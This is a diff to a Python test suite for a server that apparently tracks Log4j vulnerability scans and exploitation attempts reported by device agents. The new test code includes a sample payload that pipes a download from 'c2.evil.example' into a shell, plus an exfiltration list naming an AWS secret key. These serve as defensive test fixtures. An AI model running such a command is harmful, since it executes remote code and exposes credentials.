@@ -16,7 +16,7 @@ sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from server_common import (Server, attempt, check, check_eq, cli, db_sql, envelope, finding, make_token,  # noqa: E402
                            make_user, mid, new_db, not_ok, ok, process, report)
 
-SCHEMA = 11  # the number of migrations in programs/server/store_schema.c
+SCHEMA = 12  # the number of migrations in programs/server/store_schema.c
 SHARED = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
 
 
@@ -97,7 +97,8 @@ def run(kind):
     check(t + "by-version", vers.get(("log4j-core", "2.14.1"), {}).get("devices_vulnerable") == 3 and
           vers[("log4j-core", "2.0-beta9")]["files_vulnerable"] == 2 and
           vers[("log4j-core", "2.17.1")]["devices_safe"] == 1, ov["by_version"])
-    check(t + "callbacks", ov["callbacks"] == [{"host": "203.0.113.7", "devices": 1, "attempts": 1}], ov["callbacks"])
+    check(t + "callbacks", ov["callbacks"] == [{"host": "203.0.113.7", "domain": "203.0.113.7", "devices": 1,
+                                                  "attempts": 1}], ov["callbacks"])
     # the lists behind the overview's tables, filtered
     st, _, data = s.get("/api/v1/remediation", reader)
     rl = json.loads(data)["items"] if st == 200 else []
@@ -217,8 +218,24 @@ def run(kind):
     at = s.get_json("/api/v1/attempts?device=%d" % web1, reader)["items"]
     check_eq(t + "attempts-appended-dedup", sorted(a["line"] for a in at), [12, 13, 14])
     cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
-    check(t + "callback-counts", cb.get("evil.example") == {"host": "evil.example", "devices": 1, "attempts": 2},
+    check(t + "callback-counts", cb.get("evil.example") == {"host": "evil.example", "domain": "evil.example", "devices": 1,
+                                                    "attempts": 2},
           cb)
+    # what the agent decoded is kept: a Base64 URL's command (hostile text
+    # stored as sent), a non-UTF-8 one as payload_b64, the leaked lookups
+    a15 = dict(attempt(15, host="c2.evil.example"), exfil=["env:AWS_SECRET_ACCESS_KEY", "hostName"],
+               payload="curl http://c2.evil.example/x|sh <script>")
+    a16 = dict(attempt(16, host="c2.evil.example"), payload_b64="/w==")
+    el3 = envelope(mid(1), "web1", command="logs", created="2026-11-29T00:00:00Z")
+    s.submit(agent, report(el3, [a15, a16], summary=False))
+    at = {a["line"]: a for a in s.get_json("/api/v1/attempts?host=c2.evil.example", reader)["items"]}
+    check_eq(t + "attempt-payload", at.get(15, {}).get("payload"), "curl http://c2.evil.example/x|sh <script>")
+    check_eq(t + "attempt-exfil", at.get(15, {}).get("exfil"), ["env:AWS_SECRET_ACCESS_KEY", "hostName"])
+    check_eq(t + "attempt-domain", at.get(15, {}).get("domain"), "evil.example")
+    cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
+    check_eq(t + "callback-domain", cb.get("c2.evil.example", {}).get("domain"), "evil.example")
+    check_eq(t + "attempt-payload-b64", (at.get(16, {}).get("payload"), at.get(16, {}).get("payload_b64")),
+             (None, "/w=="))
 
     # --- known ids
     ids = [e1["report_id"], e2["report_id"], "00000000-0000-4000-8000-000000000000"]
